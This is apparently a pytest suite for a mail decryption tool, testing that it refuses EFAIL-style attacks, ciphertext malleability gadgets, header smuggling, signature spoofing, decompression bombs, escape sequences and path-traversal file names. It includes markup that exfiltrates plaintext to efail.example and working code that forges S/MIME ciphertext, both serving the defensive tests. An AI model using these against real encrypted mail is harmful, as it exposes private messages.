"""The attacks on those who open sealed mail, each as a message: EFAIL (Poddebniak et al., USENIX Security 2018), "Johnny,
you are fired!" (Müller et al., 2019), "Mailto: Me Your Secrets" (2020), and the older ones. None gets more than a refusal
and an explanation."""

import base64
import itertools
import os
import pathlib
import pty
import re
import signal
import subprocess

import pytest

from support import cms, places
from support.attacks import (DAMAGED, NO_KEY, NOT_SEALED, OPENED, PARTLY, PAYLOAD, SECRET, decrypt, is_refused,
                             read)
from support.command import Command
from support.gnupg import GnuPgHome
from support.mime import HEADER, armored, detached, multipart, pgp_mime, smime, text
from support.openpgp import packet, packets
from support.waiting import wait_for

ALICE = "alice@example.com"
BOB = "bob@example.org"
MALLORY = "mallory@example.net"


def cbc(smime_keys, payload):
    return cms.openssl("cms", "-encrypt", "-aes256", "-binary", "-outform", "DER", smime_keys.certificate_of(BOB), input=payload)


def gcm(smime_keys, payload):
    return cms.openssl("cms", "-encrypt", "-aes-256-gcm", "-binary", "-outform", "DER", smime_keys.certificate_of(BOB),
                       input=payload)


# --- EFAIL, direct exfiltration: what is opened becomes part of an address that a mail program asks for ---

IMG_OPEN = text(b'<img src="http://efail.example/', b"html")
IMG_CLOSE = text(b'">', b"html")


@pytest.mark.parametrize("subtype", [b"mixed", b"related", b"alternative", b"digest", b"parallel"])
@pytest.mark.parametrize("before, after", [(IMG_OPEN, IMG_CLOSE), (None, IMG_CLOSE), (IMG_OPEN, None)])
def test_sealed_part_between_html(lockbox, sealed, subtype, before, after):
    """The first part opens an attribute, the last closes it; a program that puts the parts together sends the text."""
    parts = [part for part in (before, sealed(), after) if part]
    message = HEADER + multipart(subtype, *parts)
    result = decrypt(lockbox, message)
    if subtype == b"digest":  # its parts are messages unless they say otherwise (RFC 2046 §5.1.5)
        assert SECRET not in result.out
        return
    assert result.status == PARTLY, result
    assert SECRET not in result.out and b"efail.example" not in result.out
    assert "partly sealed" in result.err and "markup" in result.err
    shown = read(lockbox, message)
    assert shown.status == PARTLY and b"PARTLY SEALED" in shown.out
    own = shown.out[shown.out.index("\n▐ Part ".encode()):]
    assert SECRET in own and b"efail" not in own


def test_sealed_part_between_html_in_smime(lockbox, smime_keys, key_options):
    """The same with S/MIME, whose EnvelopedData is one part."""
    message = HEADER + multipart(b"mixed", IMG_OPEN, smime(cbc(smime_keys, PAYLOAD)), IMG_CLOSE)
    result = decrypt(lockbox, message, *key_options)
    assert (result.status, result.out) == (PARTLY, b""), result


def test_sealed_part_of_an_outer_message_in_html(lockbox, sealed):
    """The markup stands in another branch of the tree, and the sealed part in a forwarded message."""
    forwarded = b"Content-Type: message/rfc822\n\n" + HEADER + sealed()
    message = HEADER + multipart(b"mixed", multipart(b"alternative", text(b"x"), IMG_OPEN, boundary=b"aa"), forwarded, IMG_CLOSE)
    result = decrypt(lockbox, message)
    assert (result.status, result.out) == (PARTLY, b""), result


def test_a_part_alone_can_be_had(lockbox, sealed):
    """What is refused beside markup is there for whoever asks for it by itself."""
    message = HEADER + multipart(b"mixed", IMG_OPEN, sealed(), IMG_CLOSE)
    result = decrypt(lockbox, message, "--part", "2")
    assert result.status == PARTLY and SECRET in result.out and b"efail" not in result.out


# --- EFAIL, gadgets: ciphertext that is changed without its key ---

def test_cbc_gadget(lockbox, smime_keys, key_options):
    """S/MIME: the first block is known ("Content-Type: te"). An attacker who XORs it into what he wants gets any block that
    he likes, with one of random octets before each: here an image whose address takes in the rest."""
    payload = b"Content-Type: text/plain\r\n\r\n" + SECRET + b" " + b"x" * 200 + b"\r\n"
    octets = cbc(smime_keys, payload)
    known = payload[:16]
    # The IV stands in front of the ciphertext: [0] IMPLICIT OCTET STRING, behind OCTET STRING of 16 octets.
    size = (len(payload) // 16 + 1) * 16
    ciphertext = octets[-size:]
    iv_at = octets.rindex(b"\x04\x10", 0, len(octets) - size) + 2
    iv = octets[iv_at:iv_at + 16]

    def gadget(wanted):
        """Two blocks that decrypt to 16 random octets and the wanted ones."""
        assert len(wanted) == 16
        block = bytes(a ^ b ^ c for a, b, c in zip(iv, known, wanted))
        return block + ciphertext[:16]

    html = [b"Content-Type: te", b'xt/html\n\n<img x=', b'" src="http://e/', b'?               ']
    attack = b"".join(gadget(block) for block in html) + ciphertext
    # The first gadget's first block is the new IV.
    message = HEADER + smime(_with_ciphertext(octets, attack[:16], attack[16:]))
    result = is_refused(lockbox, message, options=key_options)
    assert "changes a message on its way" in result.err


def _enveloped(octets):
    """EnvelopedData taken apart: its type, version, recipients, content type, and the content's algorithm, IV and ciphertext."""
    kind, explicit = cms.split(cms.contents(octets))
    version, recipients, encrypted = cms.split(cms.contents(cms.contents(explicit)))
    data_type, algorithm, content = cms.split(cms.contents(encrypted))
    oid, iv = cms.split(cms.contents(algorithm))
    return kind, version, recipients, data_type, oid, cms.contents(iv), cms.contents(content)


def _with_ciphertext(octets, iv, ciphertext):
    """EnvelopedData again with these, its lengths right."""
    kind, version, recipients, data_type, oid, _, _ = _enveloped(octets)
    encrypted = cms.sequence(data_type, cms.sequence(oid, cms.tlv(0x04, iv)), cms.tlv(0x80, ciphertext))
    return cms.sequence(kind, cms.tlv(0xa0, cms.sequence(version, recipients, encrypted)))


def _pieces(octets):
    """IV and ciphertext of EnvelopedData."""
    return _enveloped(octets)[-2:]


@pytest.mark.parametrize("encoding", [b"7bit", b"7BIT", b"quoted-printable", b"base64", b""])
@pytest.mark.parametrize("charset", [b"utf-8", b"iso-8859-1"])
def test_cbc_gadget_in_html(lockbox, smime_keys, key_options, encoding, charset):
    """The sender wrote HTML himself, so nothing but the image is missing. Where the attacker puts a gadget, 16 random octets
    stand. He tries again until no control character is among them, which in a charset of single octets happens soon;
    then only the encoding tells that no mail program wrote them."""
    header = (b"Content-Type: text/html; charset=" + charset + b"\r\n" +
              (b"Content-Transfer-Encoding: " + encoding + b"\r\n" if encoding else b""))
    header += b"X-Filler: " + b"x" * (-(len(header) + 14) % 16) + b"\r\n\r\n"
    assert len(header) % 16 == 0
    content = SECRET if encoding != b"base64" else base64.b64encode(SECRET)
    payload = header + content + b"\r\n"
    for number in itertools.count():
        octets = cbc(smime_keys, payload)
        iv, ciphertext = _pieces(octets)
        wanted = b"<img src=//e?%03d" % (number % 1000) if encoding != b"base64" else b"PGltZyBzcmM9%04d" % number
        assert len(wanted) == 16
        gadget = bytes(a ^ b ^ c for a, b, c in zip(iv, payload[:16], wanted)) + ciphertext[:16]
        at = len(header)
        forged = _with_ciphertext(octets, iv, ciphertext[:at] + gadget + ciphertext[at - 16:at] + ciphertext[at:])
        opened = smime_keys.decrypt(forged, BOB)
        assert wanted in opened
        garbage = opened[at:at + 16] + opened[at + 32:at + 48]
        if charset == b"utf-8" or not any(octet < 32 and octet not in b"\t\n\r" or octet == 127 for octet in garbage):
            break
        assert number < 1000, "no luck with the random octets"
    is_refused(lockbox, HEADER + smime(forged), "changes a message on its way", options=key_options)


def test_cbc_cut_and_turned(lockbox, smime_keys, key_options):
    """Blocks taken out, turned, repeated, and cut off at the end, where the padding says so or not."""
    payload = PAYLOAD[:-2] + b" " + b"".join(b"%015d " % n for n in range(20)) + b"\r\n"
    octets = cbc(smime_keys, payload)
    iv, ciphertext = _pieces(octets)
    blocks = [ciphertext[at:at + 16] for at in range(0, len(ciphertext), 16)]
    for changed in (blocks[:5] + blocks[8:], blocks[:5] + [blocks[6], blocks[5]] + blocks[7:], blocks[:5] + blocks[3:],
                    blocks[:9], blocks[:-1], blocks[1:], blocks + blocks, [], [blocks[0][:8]]):
        is_refused(lockbox, HEADER + smime(_with_ciphertext(octets, iv, b"".join(changed))), "not opened", options=key_options)


def test_cbc_says_what_it_lacks(lockbox, smime_keys, key_options):
    """The first block can be changed without a trace, by the IV alone: so the warning stands above every such message."""
    payload = b"Content-Type: text/plain\r\n\r\n" + SECRET + b"\r\n"
    octets = cbc(smime_keys, payload)
    iv, ciphertext = _pieces(octets)
    changed = bytes(a ^ b ^ c for a, b, c in zip(iv, payload[:16], b"Content-Typo: te"))
    for message in (octets, _with_ciphertext(octets, changed, ciphertext)):
        result = decrypt(lockbox, HEADER + smime(message), *key_options)
        assert result.status == OPENED and "may have been changed" in result.err, result
        assert read(lockbox, HEADER + smime(message), "--json", *key_options).json["protection"] == "without-integrity"


def test_cfb_gadget(lockbox, bob_home):
    """OpenPGP's CFB can be changed in the same way; the MDC at its end says so."""
    octets = bytearray(bob_home.encrypt(PAYLOAD + b"x" * 500, BOB, armor=False))
    for at in range(len(octets) - 300, len(octets) - 284):
        octets[at] ^= 0x20
    is_refused(lockbox, HEADER + pgp_mime(armored(bytes(octets))), "not opened")


@pytest.mark.parametrize("name", ["no-mdc.bin", "sed.bin"])
def test_without_integrity_protection(tmp_path, name):
    """The MDC stripped, and the packet of RFC 2440 that never has one, with the right session key."""
    folder = places.SOURCE / "tests" / "data" / "openpgp"
    with GnuPgHome() as home:
        home.import_key((folder / "alice.secret.asc").read_bytes())
        command = Command(tmp_path, home)
        is_refused(command, HEADER + pgp_mime(armored((folder / name).read_bytes())), "not opened")


def _sealed_packets(bob_home):
    octets = bob_home.encrypt(PAYLOAD, BOB, armor=False)
    (pkesk_tag, _, pkesk), (tag, body, _) = list(packets(octets))
    assert (pkesk_tag, tag) == (1, 18)
    return pkesk, body


def test_wrong_mdc(lockbox, bob_home):
    pkesk, body = _sealed_packets(bob_home)
    is_refused(lockbox, HEADER + pgp_mime(armored(pkesk + packet(18, body[:-1] + bytes([body[-1] ^ 1])))), "not opened")


def test_cut_mdc(lockbox, bob_home):
    pkesk, body = _sealed_packets(bob_home)
    is_refused(lockbox, HEADER + pgp_mime(armored(pkesk + packet(18, body[:-22]))), "not opened")


def test_relabelled_as_unprotected(lockbox, bob_home):
    """SEIPD without its version octet is a packet 9, but for how CFB begins anew: the downgrade of EFAIL §5.2."""
    pkesk, body = _sealed_packets(bob_home)
    is_refused(lockbox, HEADER + pgp_mime(armored(pkesk + packet(9, body[1:]))), "without integrity protection")


def test_gcm_relabelled_as_cbc(lockbox, smime_keys, key_options):
    """RFC 9709 §1: AuthEnvelopedData as EnvelopedData with CBC gives garbage that depends on the secret."""
    octets = gcm(smime_keys, PAYLOAD + b"x" * 160 + b"\r\n")
    explicit = list(cms.split(cms.contents(octets)))[1]
    fields = list(cms.split(cms.contents(cms.contents(explicit))))
    version, recipients, encrypted = fields[0], fields[1], fields[2]
    data_type, _, content = list(cms.split(cms.contents(encrypted)))
    blocks = cms.contents(content)
    for iv in (bytes(16), b"\xff" * 16):
        algorithm = cms.sequence(cms.oid(cms.AES_256_CBC), cms.tlv(0x04, iv))
        enveloped = cms.sequence(cms.oid("2a864886f70d010703"), cms.tlv(0xa0, cms.sequence(
            version, recipients, cms.sequence(data_type, algorithm, cms.tlv(0x80, blocks[:len(blocks) // 16 * 16])))))
        is_refused(lockbox, HEADER + smime(enveloped), options=key_options)


def test_aead_in_enveloped_data(lockbox, smime_keys, key_options):
    """GCM in a container that has no place for its tag."""
    octets = gcm(smime_keys, PAYLOAD)
    explicit = list(cms.split(cms.contents(octets)))[1]
    version, recipients, encrypted = list(cms.split(cms.contents(cms.contents(explicit))))[:3]
    enveloped = cms.sequence(cms.oid("2a864886f70d010703"), cms.tlv(0xa0, cms.sequence(version, recipients, encrypted)))
    is_refused(lockbox, HEADER + smime(enveloped), options=key_options)


@pytest.mark.parametrize("octets_of_tag", [0, 1, 4, 8, 11])
def test_short_tag(lockbox, smime_keys, key_options, octets_of_tag):
    """A tag of one octet is guessed in 256 tries."""
    octets = gcm(smime_keys, PAYLOAD)
    kind, explicit = list(cms.split(cms.contents(octets)))
    *fields, tag = list(cms.split(cms.contents(cms.contents(explicit))))
    short = cms.sequence(kind, cms.tlv(0xa0, cms.sequence(*fields, cms.tlv(0x04, cms.contents(tag)[:octets_of_tag]))))
    is_refused(lockbox, HEADER + smime(short, b"authEnveloped-data"), options=key_options)


# --- Structure ---

def test_text_before_and_behind_the_armor(lockbox, bob_home):
    """Readable text around armor looks as if it had been sealed, too."""
    armor = bob_home.encrypt(SECRET, BOB)
    for message in (b"Dear Bob,\n\n" + armor, armor + b"\nPS: pay the bill at http://evil.example\n"):
        result = decrypt(lockbox, HEADER + b"\n" + message)
        assert (result.status, result.out) == (PARTLY, b""), result
        assert "part 1#1" in result.err
        shown = read(lockbox, HEADER + b"\n" + message)
        assert shown.out.index(b"PARTLY SEALED") < shown.out.index("\n▐ Part 1#1".encode()) < shown.out.index(SECRET)


def test_two_armors_in_one_text(lockbox, bob_home):
    """The second was written by somebody else."""
    message = HEADER + b"\n" + bob_home.encrypt(b"one", BOB) + bob_home.encrypt(b"two", BOB)
    result = decrypt(lockbox, message)
    assert (result.status, result.out) == (PARTLY, b""), result
    assert "part 1#1" in result.err and "part 1#2" in result.err
    assert decrypt(lockbox, message, "--part", "1#2").out.endswith(b"\n\ntwo")


def test_armor_in_html(lockbox, bob_home):
    message = HEADER + text(b'<img src="http://efail.example/\n' + bob_home.encrypt(SECRET, BOB) + b'">', b"html")
    is_refused(lockbox, message, "inside of markup")


def test_third_part(lockbox, sealed):
    """PGP/MIME has two parts; what a third says was not sealed."""
    body = sealed().replace(b"--b1--\n", b"--b1\n" + text(b"not sealed") + b"\n--b1--\n")
    is_refused(lockbox, HEADER + body, "3 parts and not 2")


@pytest.mark.parametrize("preamble, epilogue", [(b"x" * 300 + b"\n", b""), (b"", b"pay at http://evil.example\n")])
def test_text_around_the_parts(lockbox, bob_home, preamble, epilogue):
    """No program shows it (RFC 2046 §5.1.1), nor does Lockbox; that it was there is said."""
    body = multipart(b'encrypted; protocol="application/pgp-encrypted"',
                     b"Content-Type: application/pgp-encrypted\n\nVersion: 1\n",
                     b"Content-Type: application/octet-stream\n\n" + bob_home.encrypt(PAYLOAD, BOB),
                     preamble=preamble, epilogue=epilogue)
    result = decrypt(lockbox, HEADER + body)
    assert result.status == OPENED and SECRET in result.out and b"evil" not in result.out, result
    assert "text stands around the sealed part" in result.err
    shown = read(lockbox, HEADER + body)
    assert "evil" not in shown.text and "x" * 60 not in shown.text, shown


def test_another_protocol(lockbox, sealed):
    is_refused(lockbox, HEADER + sealed().replace(b"application/pgp-encrypted", b"application/x-mine", 1), "application/x-mine")


def test_two_content_type_fields(lockbox, sealed):
    """One reader takes the first, another the last."""
    is_refused(lockbox, HEADER + b"Content-Type: text/html\n" + sealed(), "two Content-Type fields")


def test_boundary_injected_by_the_sealed_part(lockbox, sealed):
    """What was sealed has a line that is the delimiter outside: put in its place, it would end its part and begin another."""
    inside = PAYLOAD + b"--bb\r\nContent-Type: text/html\r\n\r\n<img src='http://efail.example/'>\r\n"
    result = decrypt(lockbox, HEADER + multipart(b"mixed", sealed(inside), text(b"footer")))
    assert (result.status, result.out) == (PARTLY, b""), result
    assert "tear the message apart" in result.err


def test_boundary_injected_outside(lockbox, sealed):
    """A part whose boundary is that of the multipart around it: only the outer one counts, so nothing sealed is left."""
    result = decrypt(lockbox, HEADER + multipart(b"mixed", sealed().replace(b"b1", b"bb"), text(b"footer")))
    assert SECRET not in result.out or result.status == PARTLY
    assert result.status in (NOT_SEALED, PARTLY, DAMAGED)


# --- Signatures ---

def signature_of(home, entity, *options):
    return home.run("--armor", "--detach-sign", *options, input=entity)


@pytest.fixture(scope="module")
def signers():
    """Alice, and Mallory who signs as himself."""
    with GnuPgHome() as home:
        yield home, home.generate(f"Alice <{ALICE}>"), home.generate("Mallory <mallory@example.net>")


@pytest.fixture
def trusting(tmp_path, bob_home, signers):
    """The command as Bob runs it where he has verified both certificates."""
    home, *fingerprints = signers
    with GnuPgHome() as own:
        own.import_key(bob_home.export_secret(BOB) + home.export(fingerprints[0]) + home.export(fingerprints[1]))
        own._write("gpg.conf", "batch", "no-tty", "trust-model pgp", "no-auto-key-locate")
        own.run("--import-ownertrust", input="".join(f"{fingerprint}:6:\n" for fingerprint in fingerprints).encode())
        yield Command(tmp_path, own)


ENTITY = b"Content-Type: text/plain\r\n\r\nsigned\r\n"


def lf(octets):
    return octets.replace(b"\r\n", b"\n")


def signed(home, fingerprint, entity=ENTITY):
    return detached(lf(entity), signature_of(home, entity, "--local-user", fingerprint))


def states(result):
    return [(signature["state"], signature["proves_sender"]) for signature in result.json["signatures"]]


def test_signature_of_the_whole(trusting, signers):
    home, alice, mallory = signers
    assert states(read(trusting, HEADER + signed(home, alice), "--json")) == [("good", True)]
    by_mallory = read(trusting, HEADER + signed(home, mallory), "--json")
    assert states(by_mallory) == [("good", False)]
    assert "NOT the address in From" in read(trusting, HEADER + signed(home, mallory)).text


def test_signature_of_a_part(trusting, signers):
    """The signed part is Alice's; the attacker's stands above it, and looks as if it were signed, too."""
    home, alice, _ = signers
    message = HEADER + multipart(b"mixed", text(b"Pay Mallory."), signed(home, alice))
    result = read(trusting, message, "--json")
    assert result.json["signatures"] == []
    assert [part["number"] for part in result.json["parts"]] == ["2"]
    shown = read(trusting, message).text
    assert "Signature:" not in shown[:shown.index("\n▐ Part 2")]


def test_signature_of_another_text(trusting, signers):
    home, alice, _ = signers
    message = HEADER + signed(home, alice).replace(b"\nsigned\n", b"\nforged\n")
    assert states(read(trusting, message, "--json")) == [("bad", False)]
    assert "BAD signature" in read(trusting, message).text


def test_signature_around_the_encryption(trusting, signers, sealed):
    """Mallory takes what was sealed for Bob and signs it: that he knew what is inside is not said."""
    home, alice, _ = signers
    inner = sealed()
    message = HEADER + detached(inner, signature_of(home, inner.replace(b"\n", b"\r\n"), "--local-user", alice))
    result = read(trusting, message, "--json")
    assert result.status == OPENED, result
    assert [(s["state"], s["is_around_encryption"], s["proves_sender"]) for s in result.json["signatures"]] == \
        [("good", True, False)]


def test_certificate_states(tmp_path, bob_home):
    """Unknown, expired and revoked certificates, each said as what it is."""
    with GnuPgHome() as home, GnuPgHome() as reader:
        expired = home.generate(f"Alice <{ALICE}>", expire="30d", faked_time="2020-01-02")
        old = home.run("--armor", "--detach-sign", "--local-user", expired, input=ENTITY, faked_time="2020-01-03")
        revoked = home.generate("Alice <alice2@example.com>")
        before = signature_of(home, ENTITY, "--local-user", revoked)
        unknown = home.generate("Alice <alice3@example.com>")
        never_seen = signature_of(home, ENTITY, "--local-user", unknown)
        home.revoke(revoked)
        reader.import_key(home.export(expired) + home.export(revoked))
        command = Command(tmp_path, reader)
        for signature, state, words in ((old, "expired", "EXPIRED"), (before, "revoked", "REVOKED"),
                                        (never_seen, "unknown", "unknown certificate")):
            message = HEADER + detached(lf(ENTITY), signature)
            assert states(read(command, message, "--json")) == [(state, False)], state
            assert words in read(command, message).text


def test_nobody_vouches(tmp_path):
    """Anybody can make a certificate in Alice's name. Without a path of trust to it, that is said."""
    with GnuPgHome() as home, GnuPgHome() as reader:
        signature = signature_of(home, ENTITY, "--local-user", home.generate(f"Alice <{ALICE}>"))
        reader._write("gpg.conf", "batch", "no-tty", "trust-model pgp", "no-auto-key-locate")
        reader.import_key(home.export(ALICE))
        command = Command(tmp_path, reader)
        message = HEADER + detached(lf(ENTITY), signature)
        assert states(read(command, message, "--json")) == [("unvouched", False)]
        assert "nobody vouches" in read(command, message).text


# --- Header fields ---

def fields_of(result):
    return result.out.partition(b"\n\n")[0]


def test_fields_smuggled_without_protection(lockbox, sealed):
    """Who seals a message does not thereby get to write its header section."""
    result = decrypt(lockbox, HEADER + sealed(b"From: ceo@example.com\r\nSubject: pay\r\n" + PAYLOAD))
    assert result.status == OPENED
    assert b"ceo@example.com" not in fields_of(result) and b"Subject: outside" in fields_of(result)


def test_fields_of_a_part_that_is_not_the_root(lockbox, sealed):
    """RFC 9788 §2.1.1: hp counts at the root of the Cryptographic Payload alone."""
    protected = b'Subject: pay\nContent-Type: text/plain; hp="cipher"\n\n' + SECRET
    inside = multipart(b"mixed", protected).replace(b"\n", b"\r\n")
    result = decrypt(lockbox, HEADER + sealed(inside))
    assert b"Subject: outside" in fields_of(result) and b"Subject: pay" not in fields_of(result)
    part = decrypt(lockbox, HEADER + multipart(b"mixed", sealed(protected.replace(b"\n", b"\r\n")), text(b"footer")))
    assert part.status == PARTLY
    assert b"Subject: outside" in fields_of(part) and b"Subject: pay" not in part.out


def test_protected_fields_of_a_message_that_is_not_sealed(lockbox):
    """A phony protection: nothing says who wrote it."""
    message = HEADER + b'Content-Type: multipart/mixed; hp="cipher"; boundary=x\n\n--x\nSubject: pay\n\nx\n--x--\n'
    assert decrypt(lockbox, message).status == NOT_SEALED
    shown = read(lockbox, message)
    assert b"NOT SEALED" in shown.out and b"Subject:    outside" in shown.out


def test_from_that_differs(lockbox, sealed):
    """RFC 9788 §4.4: the outer From, which the mail system knows, and a warning."""
    inside = b"From: ceo@example.com\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\n" + SECRET + b"\r\n"
    result = decrypt(lockbox, HEADER + sealed(inside))
    assert b"From: Alice <alice@example.com>" in fields_of(result) and b"ceo@" not in result.out
    assert "ceo@example.com" in result.err and "warning" in result.err
    assert "ceo@example.com" in read(lockbox, HEADER + sealed(inside)).text


@pytest.mark.parametrize("field", [b"Authentication-Results: mx.example.org; dkim=pass", b"Received: from bank.example",
                                   b"Return-Path: <ceo@example.com>", b"Received-SPF: pass", b"X-Spam-Status: No",
                                   b"Delivered-To: eve@example.net"])
def test_fields_that_only_servers_write(lockbox, sealed, field):
    """The payload protects its fields, rightly; these say what a server found, and no server saw inside."""
    inside = field + b'\r\nSubject: inside\r\nContent-Type: text/plain; hp="cipher"\r\n\r\n' + SECRET + b"\r\n"
    result = decrypt(lockbox, HEADER + sealed(inside))
    assert result.status == OPENED and b"Subject: inside" in fields_of(result), result
    assert field.partition(b":")[0] not in fields_of(result)


@pytest.mark.parametrize("body", [b"a\rBcc: eve@example.net", b"a\nBcc: eve@example.net", b"a\r\r\nBcc: eve@example.net",
                                  b"a\0\r\n Bcc: eve@example.net", b"a\r\n\tBcc: eve@example.net", b"a\x0bBcc: eve@example.net"])
def test_line_ends_in_a_protected_field(lockbox, sealed, body):
    """What stands in a field inside must not become a field of its own outside, nor end the header section."""
    inside = b"Subject: " + body + b'\r\nContent-Type: text/plain; hp="cipher"\r\n\r\n' + SECRET + b"\r\n"
    result = decrypt(lockbox, HEADER + sealed(inside))
    lines = re.split(rb"\r\n|\n|\r", result.out)
    assert not any(line.lower().startswith(b"bcc:") for line in lines) or b"\nBcc" in body.replace(b"\r", b"\n"), result
    if result.status == OPENED:
        assert b"\r" not in fields_of(result).replace(b"\r\n", b""), result


def test_fields_protected_twice(lockbox, sealed):
    """Two From fields inside, or two Subjects: no reader may choose for itself."""
    inside = (b"From: Alice <alice@example.com>\r\nFrom: ceo@example.com\r\nSubject: one\r\nSubject: two\r\n"
              b'Content-Type: text/plain; hp="cipher"\r\n\r\n' + SECRET + b"\r\n")
    result = decrypt(lockbox, HEADER + sealed(inside))
    assert b"ceo@example.com" not in fields_of(result), result
    assert fields_of(result).lower().count(b"\nfrom:") + fields_of(result).lower().startswith(b"from:") == 1


def test_hp_in_the_second_of_two_types(lockbox, sealed):
    inside = b'Subject: pay\r\nContent-Type: text/plain\r\nContent-Type: text/plain; hp="cipher"\r\n\r\n' + SECRET + b"\r\n"
    result = decrypt(lockbox, HEADER + sealed(inside))
    assert b"Subject: pay" not in result.out, result


def test_hp_in_a_sealed_part_of_a_signed_message(lockbox, sealed):
    """Protected fields in an attached message are that message's."""
    inner = b'From: ceo@example.com\r\nSubject: pay\r\nContent-Type: text/plain; hp="cipher"\r\n\r\n' + SECRET
    inside = b"Content-Type: message/rfc822\r\n\r\n" + inner + b"\r\n"
    result = decrypt(lockbox, HEADER + sealed(inside))
    assert b"Subject: outside" in fields_of(result) and b"ceo@" not in fields_of(result), result


# --- Too much of everything ---

def test_decompression_bomb(lockbox, bob_home):
    """A quarter of a megabyte becomes 200."""
    bomb = bob_home.run("--compress-algo", "zlib", "-z", "9", "--armor", "--recipient", BOB, "--encrypt",
                        input=b"Content-Type: text/plain\r\n\r\n" + bytes(200 << 20))
    assert len(bomb) < 1 << 20
    is_refused(lockbox, HEADER + pgp_mime(bomb), "bomb")


def test_sealed_twenty_times(lockbox, sealed):
    entity = PAYLOAD
    for _ in range(20):
        entity = sealed(entity).replace(b"\n", b"\r\n")
    result = decrypt(lockbox, HEADER + entity.replace(b"\r\n", b"\n"))
    assert SECRET not in result.out
    assert "more than 8 layers" in result.err


def test_ten_thousand_parts(lockbox):
    is_refused(lockbox, HEADER + multipart(b"mixed", *[text(b"x")] * 10_000), "more than 1000 parts")


def test_a_thousand_levels(lockbox):
    entity = text(b"x")
    for level in range(1000):
        boundary = b"level%d." % level
        entity = (b"Content-Type: multipart/mixed; boundary=" + boundary + b"\n\n--" + boundary + b"\n" + entity + b"\n--" +
                  boundary + b"--\n")
    is_refused(lockbox, HEADER + entity, "more than 32 deep")


def test_a_thousand_levels_inside(lockbox, sealed):
    entity = PAYLOAD
    for level in range(100):
        boundary = b"level%d." % level
        entity = (b"Content-Type: multipart/mixed; boundary=" + boundary + b"\r\n\r\n--" + boundary + b"\r\n" + entity +
                  b"\r\n--" + boundary + b"--\r\n")
    result = decrypt(lockbox, HEADER + sealed(entity))
    assert SECRET not in result.out and "more than 32 deep" in result.err


# --- The terminal and the file system ---

ESCAPES = b"\x1b]0;owned\x07\x1b[2J\xe2\x80\xae\xc2\x9b31m"
BAD = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xa8-\xae]|\xe2\x81[\xa6-\xa9]")


def test_escape_sequences(lockbox, sealed):
    """In the Subject, in a name, in a file name, in the text: shown as nothing that a terminal or an eye obeys."""
    hidden = b"=?utf-8?q?=1B=5D0=3Bowned=07=E2=80=AE?="
    header = (b"From: " + hidden + b" <alice@example.com>\nTo: bob@example.org\nSubject: " + ESCAPES + hidden +
              b"\nMIME-Version: 1.0\n")
    attachment = b'Content-Type: application/x-' + ESCAPES + b'\nContent-Disposition: attachment; filename="' + ESCAPES + \
        b'.txt"\n\nx'
    inside = multipart(b"mixed", text(ESCAPES), attachment).replace(b"\n", b"\r\n")
    for message in (header + sealed(inside), header + multipart(b"mixed", text(ESCAPES), attachment)):
        shown = read(lockbox, message)
        assert shown.status == OPENED
        assert not BAD.search(shown.out.replace(b"\n", b"")), shown.out
        assert not BAD.search(decrypt(lockbox, message).err.replace("\n", "").encode())
    refused = decrypt(lockbox, header + sealed().replace(b"application/pgp-encrypted", b"x/" + ESCAPES, 1))
    assert not BAD.search(refused.err.replace("\n", "").encode())


def on_a_terminal(lockbox, *arguments):
    """What the command writes to a terminal that has 60 columns."""
    leader, follower = pty.openpty()
    subprocess.run(["stty", "cols", "60"], stdin=follower, check=True)
    process = subprocess.Popen([lockbox.program, *map(str, arguments)], stdin=subprocess.DEVNULL, stdout=follower,
                               stderr=subprocess.DEVNULL,
                               env={**lockbox.environment(), "TERM": "xterm", "LOCKBOX_PAGER": "cat"})
    os.close(follower)
    octets = b""
    while True:
        try:
            piece = os.read(leader, 65536)
        except OSError:  # how Linux says that the other side is closed
            break
        if not piece:
            break
        octets += piece
    os.close(leader)
    process.wait(timeout=60)
    return octets


def test_on_a_terminal(lockbox, sealed):
    """Only colours of ours; and no line of the text begins where ours do, however it is broken."""
    forged = b"Protection: sealed, and unchanged since"
    body = b"".join(b"x" * filler + forged + b"\r\n" for filler in range(50, 64)) + ESCAPES + b"\r\n"
    message = lockbox.file("message.eml", HEADER + sealed(b"Content-Type: text/plain\r\n\r\n" + body))
    octets = on_a_terminal(lockbox, "read", message)
    assert "\x1b[1;32m▐ Protection:".encode() in octets
    plain = re.sub(rb"\x1b\[[0-9;]*m", b"", octets).replace(b"\r\n", b"\n")
    assert not BAD.search(plain.replace(b"\n", b""))
    lines = plain.decode().split("\n")
    assert sum(line.startswith("▐ Protection:") for line in lines) == 2  # at the top and at the end
    assert all(line.startswith(("▐", "│ ")) for line in lines if line)
    assert max(map(len, lines)) <= 60
    assert b"\x1b" not in on_a_terminal(lockbox, "decrypt", message)


@pytest.mark.parametrize("name", ["../../evil", "/tmp/evil", "..", ".bashrc", "-rf", "a\\..\\evil", "evil\u202efdp.exe"])
def test_names_that_leave_the_folder(lockbox, tmp_path, sealed, name):
    folder = tmp_path / "attachments"
    folder.mkdir()
    attachment = (b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"" +
                  name.encode() + b"\"\r\n\r\nharm")
    inside = multipart(b"mixed", b"\r\ntext", attachment).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    before = {path for path in tmp_path.rglob("*")}
    result = read(lockbox, HEADER + sealed(inside), "--save-attachments", folder)
    assert result.status == OPENED, result
    made = {path for path in tmp_path.rglob("*")} - before
    saved = [path for path in made if path.parent == folder]
    assert made == set(saved) and len(saved) == 1
    assert saved[0].read_bytes() == b"harm" and saved[0].name[0] not in ".-" and "\u202e" not in saved[0].name
    again = read(lockbox, HEADER + sealed(inside), "--save-attachments", folder)
    assert again.status == OPENED and len(list(folder.iterdir())) == 2  # nothing was overwritten


# --- Keys ---

def test_sealed_to_somebody_else(lockbox, carol_home):
    is_refused(lockbox, HEADER + pgp_mime(carol_home.encrypt(PAYLOAD, "carol@example.org")), "no secret key", status=NO_KEY)


def gpg_of(home):
    """The process that decrypts in this home."""
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            command = (process / "cmdline").read_bytes().split(b"\0")
            environment = (process / "environ").read_bytes().split(b"\0")
        except OSError:
            continue
        if command[0].endswith(b"gpg") and b"--decrypt" in command and b"GNUPGHOME=" + home.path.encode() in environment:
            return int(process.name)
    return None


def test_gpg_killed_behind_some_plaintext(tmp_path, bob_home):
    """gpg hands out what it decrypts while it goes on. Killed in the middle, what it wrote is not shown."""
    payload = b"Content-Type: text/plain\r\n\r\n" + (SECRET + b"\r\n") * 4_000_000
